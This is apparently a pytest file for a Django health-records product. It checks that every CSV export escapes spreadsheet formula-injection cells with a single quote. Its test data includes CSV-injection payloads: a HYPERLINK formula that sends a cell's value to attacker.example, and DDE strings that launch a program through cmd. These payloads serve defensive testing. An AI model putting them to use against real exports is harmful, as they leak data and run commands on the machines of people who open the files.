"""Every CSV the product writes is safe to open in a spreadsheet: a cell that would be read as a
formula comes out behind a single quote (OWASP's advice on CSV injection)."""

import csv
import io
import re
from pathlib import Path

import pytest
from django.urls import reverse

from access import services
from access.models import Role, Team
from audit.csv_export import csv_lines, neutralised
from tests.factories import PatientFactory, UserFactory, make_team, member

FORMULAS = [
    '=HYPERLINK("http://attacker.example/?"&A1,"Click")',
    "+1+cmd|' /C calc'!A0",
    "-2+3",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
]


@pytest.mark.parametrize("cell", FORMULAS)
def test_a_cell_starting_like_a_formula_is_written_behind_a_single_quote(cell):
    line = next(csv_lines([[cell, "plain"]]))
    assert next(csv.reader(io.StringIO(line, newline=""))) == ["'" + cell, "plain"]


@pytest.mark.parametrize("cell", ["Mile End Surgery", "a=b", "2026-11-25T10:00:00+00:00", ""])
def test_other_cells_are_written_as_they_are(cell):
    assert neutralised(cell) == cell


def test_numbers_are_written_as_numbers():
    assert next(csv_lines([[-3, 4]])) == '"-3","4"\r\n'


@pytest.mark.django_db
@pytest.mark.parametrize("name", FORMULAS)
def test_a_team_named_like_a_formula_is_neutralised_in_the_access_report_csv(client, name):
    practice = make_team(name, Team.Kind.GP_PRACTICE, ods_code="=1+1")
    privacy = make_team("Privacy office", Team.Kind.RECORD_OFFICE, ods_code="LCR")
    patient = PatientFactory()
    services.start_relationship(
        patient=patient, team=practice, kind="registered_gp", reason="r",
        actor=UserFactory(username="office"),
    )  # fmt: skip
    client.force_login(member(practice, Role.GP, "@gp"))
    client.get(reverse("patient-record", kwargs={"patient_id": patient.pk}))
    client.force_login(member(privacy, Role.PRIVACY_OFFICER, "officer"))

    response = client.get(
        reverse("audit-access-report", kwargs={"patient_id": patient.pk}), {"format": "csv"}
    )

    text = b"".join(response.streaming_content).decode()
    rows = list(csv.reader(io.StringIO(text, newline="")))
    gp_row = dict(zip(rows[0], next(row for row in rows if "'@gp" in row), strict=True))
    assert (gp_row["organisation"], gp_row["organisation_ods_code"]) == ("'" + name, "'=1+1")
    assert not any(
        cell.startswith(("=", "+", "-", "@", "\t", "\r")) for row in rows for cell in row
    )


def test_every_csv_the_product_writes_goes_through_the_one_helper():
    root = Path(__file__).resolve().parent.parent
    writers = [
        str(path.relative_to(root))
        for app in ("access", "audit", "records", "lcr", "demo")
        for path in (root / app).rglob("*.py")
        if re.search(r"csv\.(writer|DictWriter)\b", path.read_text())
    ]
    assert writers == ["audit/csv_export.py"]
